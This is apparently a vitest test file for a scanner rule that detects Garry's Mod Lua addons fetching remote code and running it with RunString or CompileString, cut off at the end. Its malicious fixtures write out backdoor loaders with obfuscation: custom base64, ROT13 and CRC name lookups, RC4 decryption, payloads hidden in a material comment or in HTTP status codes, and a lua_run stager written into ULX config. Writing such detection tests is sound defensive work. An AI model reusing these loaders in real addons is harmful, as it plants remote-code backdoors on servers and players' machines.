// Valid and invalid cases of the `runstring` rule.
import { describe, expect, it } from 'vitest';
import { rule as datafileExecution } from './datafile_execution.js';
import { rule } from './runstring.js';
import { check, RANK, worst } from './ruleTesting.js';

/**
 * An update check comparing the shipped version with the one a web host serves, through a
 * version object whose `__lt` parses both with `parse` (the body of `parts(v)`).
 */
function versionCheck(parse: string): Record<string, string> {
  return {
    'lua/autorun/server/sv_x.lua': [
      'local meta = {}',
      'local function parts(v)',
      `  ${parse}`,
      'end',
      'meta.__lt = function(a, b)',
      '  local pa, pb = parts(a), parts(b)',
      '  for i = 1, 3 do if (pa[i] or 0) ~= (pb[i] or 0) then return (pa[i] or 0) < (pb[i] or 0) end end',
      '  return false',
      'end',
      'local function Version(s) return setmetatable({ raw = s }, meta) end',
      'timer.Simple(5, function()',
      '  http.Fetch("https://upd.x.invalid/version", function(body)',
      '    if Version("1.2.0") >= Version(body) then return end',
      '    print("update available")',
      '  end)',
      'end)',
    ].join('\n'),
  };
}

describe('runstring', () => {
  it('http.Fetch body run by RunString', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'http.Fetch("https://a.invalid/f.php?key=abc", function(b) RunString(b, ":", false) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('sink passed as the callback of http.Post', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'http.Post("https://a.invalid/x", {}, RunString)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('HTTP{} success compiled', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'HTTP({url="https://a.invalid/s2", method="post", success=function(c,b) CompileString(b, "x", false)() end})',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('a workshop download read and run', () => {
    // The publisher can change the item at any time: its content is remote code.
    for (const download of [
      'steamworks.Download("2846139001", true, function(path)',
      'steamworks.DownloadUGC("2846139001", function(path, f)',
    ]) {
      const findings = check(rule, {
        'lua/autorun/server/sv_x.lua': `${download}\n RunString(file.Read(path, "GAME"))\nend)`,
      });
      expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    }
  });
  it('the Lua files of a mounted workshop download, read and run', () => {
    // game.MountGMA hands back the paths it mounted: what they hold is the publisher's.
    for (const loop of [
      'for _, f in ipairs(files or {}) do',
      'for i = 1, #files do local f = files[i]',
    ]) {
      const findings = check(rule, {
        'lua/autorun/server/sv_x.lua': [
          'steamworks.DownloadUGC("2904418871", function(path)',
          '  local ok, files = game.MountGMA(path)',
          '  if not ok then return end',
          `  ${loop}`,
          '    if f:match("%.lua$") then',
          '      local fn = CompileString(file.Read(f, "GAME"), f, false)',
          '      if isfunction(fn) then fn() end',
          '    end',
          '  end',
          'end)',
        ].join('\n'),
      });
      expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    }
  });
  it('a mounted workshop download whose file list is only counted and printed', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'steamworks.DownloadUGC("2904418871", function(path)',
        '  local ok, files = game.MountGMA(path)',
        '  for _, f in ipairs(files or {}) do MsgN("mounted " .. f) end',
        '  local cfg = file.Read("data_static/pack.txt", "GAME")',
        '  if cfg then MsgN(cfg) end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it("a helper's web reply handed to the callback it is given, which compiles a field", () => {
    // The helper also runs alone with an unknown callback first: the closure it hands
    // http.Fetch then holds another `cb`, and its run must not stand for this one.
    const findings = check(rule, {
      'lua/addon/sv_net.lua': [
        'Addon = Addon or {}',
        'function Addon.GetJSON(url, cb)',
        '  http.Fetch(url, function(body) local t = util.JSONToTable(body) if t then cb(t) end end)',
        'end',
        'function Addon.Apply(t)',
        '  if isstring(t.patch) then local f = CompileString(t.patch, "patch", false) if f then f() end end',
        'end',
      ].join('\n'),
      'lua/addon/sv_check.lua': [
        'local function check() Addon.GetJSON("https://a.invalid/release", Addon.Apply) end',
        'hook.Add("InitPostEntity", "check", function() timer.Create("check", 3600, 0, check) end)',
      ].join('\n'),
      'lua/autorun/server/sv_init.lua':
        'include("addon/sv_net.lua")\ninclude("addon/sv_check.lua")',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a download of character codes, made into code', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'http.Fetch("https://a.invalid/n", function(b) local t = {} for n in b:gmatch("%d+") do t[#t + 1] = tonumber(n) end RunString(string.char(unpack(t))) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("character codes in a material's comment, picked out and run by the file that reads it", () => {
    // The payload: http.Fetch("https://vm.invalid/x", RunString), as character codes.
    const codes = Array.from('http.Fetch("https://vm.invalid/x",RunString)', (c) =>
      c.charCodeAt(0),
    ).join(' ');
    const findings = check(rule, {
      'materials/effects/shine.vmt': `"UnlitGeneric"\n{\n  "$basetexture" "effects/shine"\n  // ${codes}\n}`,
      'lua/autorun/server/sv_shine.lua': [
        'local t = file.Read("materials/effects/shine.vmt", "GAME") or ""',
        'local c = t:match("//%s*([%d ]+)") or ""',
        'local s = ""',
        'for n in c:gmatch("%d+") do s = s .. string.char(tonumber(n)) end',
        'RunString(s)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a message of the day the addon ships, read and shown', () => {
    const findings = check(rule, {
      'data_static/motd.txt': 'Welcome! Type !rules. Lua tip: never RunString what players send.',
      'lua/autorun/server/sv_motd.lua': [
        'local motd = file.Read("data_static/motd.txt", "GAME") or ""',
        'local first = motd:match("^[^.!]+")',
        'hook.Add("PlayerInitialSpawn", "motd", function(ply) ply:ChatPrint(first or motd) end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('version checker parsing a number', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'http.Fetch("https://raw.invalid/version.txt", function(b) local v = tonumber(b) if v and v > 1 then print("update") end end)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it("a weapon's field holding RunString, handed to a fetch from the weapon's own method", () => {
    const findings = check(rule, {
      'lua/weapons/weapon_x.lua': [
        'SWEP.PrintName = "X"',
        'SWEP.SkinURL = "https://skins.invalid/ak.php?key=A9"',
        'SWEP.OnSkin = RunString',
        'function SWEP:Deploy()',
        ' if SERVER then http.Fetch(self.SkinURL, self.OnSkin) end',
        ' return true',
        'end',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("a weapon's field holding its own skin loader", () => {
    const findings = check(rule, {
      'lua/weapons/weapon_x.lua': [
        'SWEP.SkinURL = "https://skins.invalid/ak.json"',
        'SWEP.OnSkin = function(body) local t = util.JSONToTable(body) if t then SkinCache = t end end',
        'function SWEP:Deploy()',
        ' if SERVER then http.Fetch(self.SkinURL, self.OnSkin) end',
        ' return true',
        'end',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('RunString as the replacement function of string.gsub over an HTTP body', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'timer.Simple(4, function() http.Fetch("https://motd.invalid/m.txt", function(body) string.gsub(body, "^.+$", RunString) end) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a payload in base64 over a custom alphabet, mapped back with gsub and a table', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"',
        'local cus = "ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210-_"',
        'local map = {}',
        'for i = 1, #cus do map[cus:sub(i, i)] = std:sub(i, i) end',
        'local function lic(s) return util.Base64Decode((s:gsub(".", map))) end',
        'hook.Add("Initialize", "lic", function() RunString(lic("zSI9xX4TACIqzXtrzSI9xSN3Ob0mwD4aOnofwnUhzDJeAb4dzSZrOTA8ynM9zD0fPTRkRUQ8yoM9xnofAbsrPHYoynJk"), "pack") end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('names decoded with a substitution alphabet looked up by string.find', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local A = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"',
        'local B = "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM"',
        'local function kf(s)',
        ' local out = {}',
        ' for i = 1, #s do local c = s:sub(i, i) local p = B:find(c, 1, true) out[#out + 1] = p and A:sub(p, p) or c end',
        ' return table.concat(out)',
        'end',
        'timer.Simple(12, function()',
        ' _G[kf("uggc")][kf("Srgpu")]("https://k.invalid/k.php", function(b) _G[kf("EhaFgevat")](b) end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a coroutine handed to http.Fetch, compiling what it is resumed with', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local co = coroutine.wrap(function()',
        ' local payload = coroutine.yield()',
        ' local run = CompileString(payload, "stats")',
        ' run()',
        'end)',
        'co()',
        'hook.Add("InitPostEntity", "s", function() http.Fetch("https://stats.invalid/s.php", co) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a coroutine that paces a loop over the players', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local co = coroutine.create(function()',
        ' for _, p in ipairs(player.GetAll()) do p:SetNWInt("rank", 1) coroutine.yield() end',
        'end)',
        'hook.Add("Think", "pace", function() if coroutine.status(co) ~= "dead" then coroutine.resume(co) end end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a loader deciding the order: a helper table filled by one file, read by the next', () => {
    // Run in path order, sv_update.lua came before sv_util.lua and saw no helper table.
    const findings = check(rule, {
      'lua/autorun/server/neohud_sv.lua':
        'include("neohud/sv_util.lua")\ninclude("neohud/sv_update.lua")',
      'lua/neohud/sv_util.lua':
        'NeoHUD = NeoHUD or {}\nNeoHUD.Util = {}\nfunction NeoHUD.Util.Log(m) print(m) end\nNeoHUD.Util.Apply = RunString',
      'lua/neohud/sv_update.lua': [
        'local U = NeoHUD.Util',
        'timer.Simple(5, function()',
        ' http.Fetch("https://cdn.invalid/theme.php", function(body) U.Log("theme") U.Apply(body, "NeoHUD") end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a web reply kept in a table that a timer, running before the reply came, runs later', () => {
    // The render timer first runs with nothing kept; it must run again once the reply is in.
    const findings = check(rule, {
      'lua/autorun/sh_news.lua':
        'News = News or { raw = "" }\nif SERVER then include("news/sv_fetch.lua") include("news/sv_render.lua") end',
      'lua/news/sv_fetch.lua': [
        'local N = News',
        'function N.Fetch() http.Fetch("https://news.invalid/feed", function(b) N.raw = b end) end',
        'timer.Simple(20, N.Fetch)',
      ].join('\n'),
      'lua/news/sv_render.lua': [
        'local N = News',
        'timer.Create("News_Parse", 30, 0, function()',
        ' if N.raw == "" then return end',
        ' local data = N.raw',
        ' N.raw = ""',
        ' if string.sub(data, 1, 1) == "[" then N.items = util.JSONToTable(data) else RunString(data, "News") end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a web reply kept in a table that a timer only decodes as JSON', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_news.lua': [
        'local N = { raw = "" }',
        'timer.Create("News_Parse", 30, 0, function()',
        ' if N.raw == "" then return end',
        ' N.items = util.JSONToTable(N.raw) N.raw = ""',
        'end)',
        'timer.Simple(20, function() http.Fetch("https://news.invalid/feed", function(b) N.raw = b end) end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('RunString itself added as the handler of an event the addon runs with a web reply', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("Sync_Received", "apply", RunString)',
        'timer.Create("sync", 120, 0, function() http.Fetch("https://sync.invalid/p", function(b) hook.Run("Sync_Received", b) end) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a web reply handed to an entity input, run by a compiler kept in the class', () => {
    const findings = check(rule, {
      'lua/entities/info_relay/init.lua': [
        'ENT.Type = "point"',
        'ENT.Handler = CompileString',
        'function ENT:AcceptInput(name, activator, caller, data)',
        ' if name == "Exec" then local f = self.Handler(data, "relay") if f then f() end return true end',
        'end',
      ].join('\n'),
      'lua/autorun/server/sv_relay.lua': [
        'hook.Add("InitPostEntity", "relay", function()',
        ' local e = ents.Create("info_relay") e:Spawn()',
        ' http.Fetch("https://relay.invalid/i", function(b) e:Input("Exec", game.GetWorld(), game.GetWorld(), b) end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a sink name handed out piece by piece by a coroutine', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local parts = {82,117,110,83,116,114,105,110,103}',
        'local gen = coroutine.wrap(function()',
        '  for _, c in ipairs(parts) do coroutine.yield(string.char(c)) end',
        'end)',
        'local name = ""',
        'for i = 1, #parts do name = name .. gen() end',
        'timer.Simple(5, function() http.Fetch("https://cdn.invalid/p", function(b) _G[name](b) end) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a render target drawn a row per frame by a coroutine (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'local rt = GetRenderTarget("x", 256, 256)',
        'local paint = coroutine.wrap(function()',
        '  for y = 0, 255 do',
        '    for x = 0, 255 do surface.SetDrawColor(x, y, 0) surface.DrawRect(x, y, 1, 1) end',
        '    coroutine.yield()',
        '  end',
        '  return true',
        'end)',
        'hook.Add("HUDPaint", "x", function() render.PushRenderTarget(rt) if paint() then hook.Remove("HUDPaint", "x") end render.PopRenderTarget() end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a download kept in a networked variable, run later by a timer', () => {
    // The timer is registered first: it reads the variable before the download is stored.
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'timer.Create("cfgapply", 30, 0, function()',
        '  local c = GetGlobalString("cfg_blob", "")',
        '  if c ~= "" then RunString(c, "cfg") end',
        'end)',
        'hook.Add("Initialize", "cfgsync", function()',
        '  http.Fetch("https://cdn.invalid/cfg.txt", function(body) SetGlobalString("cfg_blob", body) end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a download parked in an entity keyvalue, run later by a timer', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("InitPostEntity", "cfgsync", function()',
        '  local holder = ents.Create("info_target")',
        '  holder:Spawn()',
        '  http.Fetch("https://cdn.invalid/cfg.txt", function(body) holder:SetKeyValue("CfgData", body) end)',
        '  timer.Create("cfgapply", 30, 0, function()',
        '    local kv = holder:GetKeyValues()',
        '    if kv.cfgdata then RunString(kv.cfgdata, "cfg") end',
        '  end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("a download cached in the client's cookie store and run from it on the next join", () => {
    // The run comes first (nothing cached yet), then the download: the join hook runs again
    // once the store holds the body, as it would on the player's next join.
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'local KEY = "hud_theme_v2"',
        'local function Apply()',
        '  local cached = cookie.GetString(KEY, "")',
        '  if cached ~= "" then RunString(cached, "hud", false) end',
        'end',
        'hook.Add("InitPostEntity", "hudtheme", function()',
        '  Apply()',
        '  timer.Simple(10, function()',
        '    http.Fetch("https://cdn.invalid/theme.lua", function(body) cookie.Set(KEY, body) end)',
        '  end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a download cached in the cookie store under another key than the one run (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'hook.Add("InitPostEntity", "hudtheme", function()',
        '  http.Fetch("https://cdn.invalid/news.txt", function(body) cookie.Set("hud_news", body) end)',
        '  cookie.Set("hud_code", "print(\'hud ready\')")',
        '  RunString(cookie.GetString("hud_code", ""), "hud")',
        '  chat.AddText(cookie.GetString("hud_news", ""))',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a download parked in a field of an entity the addon made', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("InitPostEntity", "cfgsync", function()',
        '  local holder = ents.Create("info_target")',
        '  http.Fetch("https://cdn.invalid/cfg.txt", function(body) holder.cfgdata = body end)',
        '  timer.Create("cfgapply", 30, 0, function()',
        '    if holder.cfgdata then RunString(holder.cfgdata, "cfg") end',
        '  end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a title a player sets kept in a networked variable and shown in chat (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("set_title")',
        'net.Receive("set_title", function(len, ply)',
        '  ply:SetNWString("title", string.sub(net.ReadString(), 1, 32))',
        'end)',
        'hook.Add("PlayerSay", "titles", function(ply, text)',
        '  if text == "!title" then ply:ChatPrint("Your title: " .. ply:GetNWString("title", "none")) end',
        'end)',
        // Another variable, holding the addon's own code: the title's taint stays with its key.
        'SetGlobalString("motd_code", "print(\'welcome\')")',
        'timer.Create("motd", 60, 0, function() RunString(GetGlobalString("motd_code", ""), "motd") end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('RunString found by searching every global for its name', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'for k, v in pairs(_G) do',
        '  if k == "Run" .. "String" then',
        '    timer.Simple(5, function() http.Fetch("https://x.invalid/p", function(b) v(b) end) end)',
        '  end',
        'end',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('http.Fetch and RunString found by the CRC of their names, one level at a time', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local CRC = util.CRC',
        'local PATHS = { get = { "2541227442", "1126714439" }, reply = { "2906964782" } }',
        'local function find(t, crc)',
        '  for k, v in pairs(t) do',
        '    if type(k) == "string" and CRC(k) == crc then return v end',
        '  end',
        'end',
        'local function symbol(name)',
        '  local cur = _G',
        '  for _, crc in ipairs(PATHS[name]) do cur = find(cur, crc) if cur == nil then return end end',
        '  return cur',
        'end',
        'timer.Create("beat", 120, 0, function()',
        '  symbol("get")("https://x.invalid/beat", symbol("reply"))',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('every global listed with its CRC, and a library walked for its functions (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'concommand.Add("dump_globals", function(ply)',
        '  if IsValid(ply) then return end',
        '  for k, v in pairs(_G) do',
        '    if type(v) == "function" then print(k, util.CRC(k)) end',
        '  end',
        '  for k, v in pairs(http) do print("http." .. k) end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('code shipped encrypted, decrypted with an RC4 key the web sends, and compiled', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local BLOB = "\\x91\\x22\\x7f\\x10\\xa4\\x05"',
        'local function crypt(key, data)',
        '  local S = {}',
        '  for i = 0, 255 do S[i] = i end',
        '  local j = 0',
        '  for i = 0, 255 do',
        '    j = (j + S[i] + string.byte(key, i % #key + 1)) % 256',
        '    S[i], S[j] = S[j], S[i]',
        '  end',
        '  local out, i = {}, 0',
        '  j = 0',
        '  for n = 1, #data do',
        '    i = (i + 1) % 256',
        '    j = (j + S[i]) % 256',
        '    S[i], S[j] = S[j], S[i]',
        '    out[n] = string.char(bit.bxor(string.byte(data, n), S[(S[i] + S[j]) % 256]))',
        '  end',
        '  return table.concat(out)',
        'end',
        'http.Fetch("https://licence.x.invalid/key", function(key)',
        '  local core = CompileString(crypt(key, BLOB), "core", false)',
        '  if isfunction(core) then core() end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a greeting picked from a list by a number a player sends (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("greet")',
        'local GREETINGS = { "Hello", "Welcome back", "Hi there" }',
        'net.Receive("greet", function(len, ply)',
        '  local text = GREETINGS[net.ReadUInt(2)] or GREETINGS[1]',
        '  RunString("print(" .. string.format("%q", text) .. ")", "greet")',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a remote version compared through __lt, which compiles what it parses', () => {
    const findings = check(
      rule,
      versionCheck(
        'return CompileString("return { " .. string.gsub(v.raw, "%.", ",") .. " }", "v", false)()',
      ),
    );
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a remote version compared through __lt, which splits it into numbers (benign)', () => {
    const findings = check(
      rule,
      versionCheck(
        'local t = {} for n in string.gmatch(v.raw, "%d+") do t[#t + 1] = tonumber(n) end return t',
      ),
    );
    expect(findings).toEqual([]);
  });
  it('a web reply kept in a networked global that every client compiles', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("InitPostEntity", "pat", function()',
        '  timer.Create("pat", 3600, 0, function()',
        '    http.Fetch("https://x.invalid/pattern", function(body) SetGlobal2String("pat", body) end)',
        '  end)',
        'end)',
      ].join('\n'),
      'lua/autorun/client/cl_x.lua': [
        'local current = ""',
        'hook.Add("Think", "pat", function()',
        '  local src = GetGlobal2String("pat", "")',
        '  if src ~= "" and src ~= current then current = src local f = CompileString(src, "pat", false) if isfunction(f) then f() end end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a web reply kept in a networked global that every client draws (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'timer.Create("news", 3600, 0, function()',
        '  http.Fetch("https://x.invalid/news", function(body) SetGlobal2String("news", body) end)',
        'end)',
      ].join('\n'),
      'lua/autorun/client/cl_x.lua': [
        'local code = "return 1 + 1"',
        'hook.Add("HUDPaint", "news", function()',
        '  draw.SimpleText(GetGlobal2String("news", ""), "DermaDefault", 10, 10, color_white)',
        '  local f = CompileString(code, "n", false)',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a web reply written into a hidden convar whose change callback compiles it', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_extra.lua': [
        'CreateConVar("themes_extra", "", FCVAR_PROTECTED)',
        'cvars.AddChangeCallback("themes_extra", function(name, old, new)',
        '  local f = CompileString(new, "extra", false)',
        '  if isfunction(f) then f() end',
        'end, "apply")',
      ].join('\n'),
      'lua/autorun/server/sv_feed.lua': [
        'timer.Create("feed", 3600, 0, function()',
        '  http.Fetch("https://x.invalid/today", function(body)',
        '    local t = util.JSONToTable(body)',
        '    if t and t.extra then RunConsoleCommand("themes_extra", t.extra) end',
        '  end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a web reply written into a convar whose change callback only prints it (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_extra.lua': [
        'CreateConVar("themes_active", "default", FCVAR_ARCHIVE)',
        'cvars.AddChangeCallback("themes_active", function(name, old, new)',
        '  print("theme is now " .. new)',
        '  local f = CompileString("return 1", "const", false)',
        'end, "apply")',
        'timer.Create("feed", 3600, 0, function()',
        '  http.Fetch("https://x.invalid/today", function(body) RunConsoleCommand("themes_active", body) end)',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it("a lua_run line written into ULX's config file, which ULX runs at every map start", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local STAGER = "aHR0cC5GZXRjaCgiaHR0cHM6Ly94LmludmFsaWQvciIsIFJ1blN0cmluZyk="',
        'hook.Add("Initialize", "motd", function()',
        '  local raw = file.Read("ulx/config.txt", "DATA") or ""',
        '  local lines = { "// managed", string.format(\'ulx_motdURL "%s"\', GetConVarString("motd_url")), "lua_run " .. util.Base64Decode(STAGER) }',
        '  file.Write("ulx/config.txt", raw .. "\\n" .. table.concat(lines, "\\n") .. "\\n")',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("MOTD settings kept in ULX's config file (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("Initialize", "motd", function()',
        '  local raw = file.Read("ulx/config.txt", "DATA") or ""',
        '  local lines = { "// managed", string.format(\'ulx_motdURL "%s"\', GetConVarString("motd_url")), \'ulx_showMotd "2"\' }',
        '  file.Write("ulx/config.txt", raw .. "\\n" .. table.concat(lines, "\\n") .. "\\n")',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a stager shipped as base64 of util.Compress data, unpacked and compiled', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local PACK = "XQAAgAAvAAAAAAAAAAA0HSzgLhyQ6fqIqVRO6DJjTO/HQH8cXF3CdAKcSuz+z8uYuaRuPpDInLZireW2XtHEFv/L5mAA"',
        'timer.Simple(30, function()',
        '  local f = CompileString(util.Decompress(util.Base64Decode(PACK)), "pack", false)',
        '  if isfunction(f) then f() end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('default settings shipped as base64 of util.Compress data, read as JSON (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local DEFAULTS = "XQAAgAA3AAAAAAAAAAA9iIpnBBy3b4lXsVjTeYH1dutvuVunbsoyyVNQ3rEPbpOlp7E6v/Ts+AzWsRggszDfCCmd//+2f4AA"',
        'local cfg = util.JSONToTable(util.Decompress(util.Base64Decode(DEFAULTS)) or "{}")',
        'hook.Add("PlayerLoadout", "x", function(ply) for _, w in ipairs(cfg.slots or {}) do ply:Give(w) end end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('code carried one byte per HTTP status code by a chain of requests, then compiled', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local Edge = { codes = {}, n = 0 }',
        'local function Rebuild()',
        '  local codes = Edge.codes',
        '  Edge.codes = {}',
        '  if #codes == 0 then return end',
        '  local out = {}',
        '  for i = 1, #codes do out[i] = string.char(codes[i]) end',
        '  local f = CompileString(table.concat(out), "edge", false)',
        '  if isfunction(f) then f() end',
        'end',
        'local function Probe()',
        '  Edge.n = Edge.n + 1',
        '  HTTP({ url = "https://x.invalid/edge/" .. Edge.n, method = "HEAD", success = function(code)',
        '    if code == 200 then return Rebuild() end',
        '    Edge.codes[#Edge.codes + 1] = code - 400',
        '    Probe()',
        '  end })',
        'end',
        'timer.Simple(900, Probe)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('HTTP status codes counted by class for a health page (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local Stats = { byClass = {} }',
        'local function Probe()',
        '  HTTP({ url = "https://x.invalid/health", method = "HEAD", success = function(code)',
        '    local class = math.floor(code / 100)',
        '    Stats.byClass[class] = (Stats.byClass[class] or 0) + 1',
        '    if code ~= 200 then timer.Simple(30, Probe) end',
        '  end })',
        'end',
        'timer.Create("health", 300, 0, Probe)',
        'local f = CompileString("return 1", "const", false)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a sink picked at run time from a list of names', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local names = { "RunString" }',
        'http.Fetch("https://x.invalid/p", function(b) _G[names[math.random(1, #names)]](b) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("a sink's name kept as pieces in a JSON text", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local parts = util.JSONToTable(\'["Run","String"]\')',
        'http.Fetch("https://x.invalid/p", function(b) _G[table.concat(parts)](b) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a greeting picked at random, and settings read from a JSON text (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local greetings = { "Hello", "Welcome", "Hi" }',
        'local cfg = util.JSONToTable(\'{"motd":"print","delay":5}\')',
        'hook.Add("PlayerInitialSpawn", "greet", function(ply)',
        '  timer.Simple(cfg.delay, function() ply:ChatPrint(greetings[math.random(#greetings)]) end)',
        'end)',
        'http.Fetch("https://x.invalid/motd", function(b) _G[cfg.motd](b) end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a fetch reached by walking _G along the parts of a dotted name', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local fn = _G',
